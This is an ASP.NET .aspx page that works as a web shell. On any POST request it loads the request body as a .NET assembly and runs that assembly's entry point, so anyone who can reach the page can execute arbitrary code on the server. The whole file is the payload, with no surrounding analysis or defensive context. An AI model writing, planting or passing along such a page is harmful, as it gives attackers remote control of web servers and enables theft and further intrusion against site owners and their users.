<%@ Page Language="C#" %>
<script runat="server">
    // the posted body is copied into a memory stream and loaded as an assembly
    void Page_Load(object sender, EventArgs e)
    {
        if (Request.HttpMethod != "POST") return;
        var ms = new System.IO.MemoryStream();
        Request.InputStream.CopyTo(ms);
        var asm = AppDomain.CurrentDomain.Load(ms.ToArray());
        asm.EntryPoint.Invoke(null, new object[] { new string[0] });
    }
</script>
